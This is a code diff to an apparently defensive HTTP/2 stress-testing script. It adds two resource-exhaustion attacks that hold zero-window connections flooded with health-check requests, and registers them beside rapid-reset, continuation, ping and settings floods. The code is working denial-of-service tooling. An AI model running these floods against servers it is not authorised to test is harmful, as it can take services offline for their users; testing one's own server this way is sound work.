@@ -4,6 +4,7 @@ client that measures what others notice of them. Standard library alone.
     http2_attacks.py HOST:PORT PID ATTACK...   runs attacks and prints what each did to the process
 """
 
+import contextlib
 import os
 import socket
 import struct
@@ -54,19 +55,21 @@ def message(body=b""):
 class Connection:
     """A connection that has sent its preface. Frames of the peer are read by `read` alone."""
 
-    def __init__(self, address, timeout=20.0, source=None):
+    def __init__(self, address, timeout=20.0, source=None, settings=b""):
         source_address = (source, 0) if source else None
         self.socket = socket.create_connection(address, timeout, source_address)
         self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.buffer = b""
         self.stream = -1
         self.answers = True  # acknowledges SETTINGS and PING
-        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
 
     def __enter__(self):
         return self
 
     def __exit__(self, *unused):
+        with contextlib.suppress(OSError):
+            self.socket.shutdown(socket.SHUT_RDWR)  # a thread that reads would keep it open
         self.socket.close()
 
     def next_stream(self):
@@ -304,6 +307,37 @@ def half_messages(address, mebibytes, length=4 << 20):
     return sent, end
 
 
+def unread_checks(address, count, whole=True):
+    """Health checks on eight connections, held for three seconds: no window lets their answers
+    through, or their messages never come. Returns how many were sent."""
+    fields, sent = request_headers(), 0
+
+    def read_away(connection):
+        with contextlib.suppress(OSError):
+            while True:
+                connection.read()
+
+    with contextlib.ExitStack() as stack:
+        for _ in range(8):
+            connection = stack.enter_context(
+                Connection(address, settings=struct.pack(">HI", 4, 0)))
+            connection.answers = False  # two threads would write over each other
+            threading.Thread(target=read_away, args=(connection,), daemon=True).start()
+            for _ in range(count // 8):
+                stream = connection.next_stream()
+                call = frame(HEADERS, END_HEADERS, stream, fields)
+                if whole:
+                    call += frame(DATA, END_STREAM, stream, message())
+                connection.socket.sendall(call)
+                sent += 1
+        time.sleep(3)
+    return sent
+
+
+def unsent_checks(address, count):
+    return unread_checks(address, count, whole=False)
+
+
 def half_handshakes(address, count):
     """Connections that never say a word. Returns how many the server closed within 30 s, and
     when the last one."""
@@ -362,6 +396,7 @@ ATTACKS = {
     "rapid_reset": (rapid_reset, 100000), "requests_reset": (requests_reset, 50000),
     "continuation_flood": (continuation_flood, 1000), "long_header": (long_header, 100),
     "many_streams": (many_streams, 50000), "half_messages": (half_messages, 1000),
+    "unread_checks": (unread_checks, 32000), "unsent_checks": (unsent_checks, 32000),
     "half_handshakes": (half_handshakes, 300), "connections": (connections, 3000),
     "pings": (pings, 100000), "settings": (settings, 100000)}
 
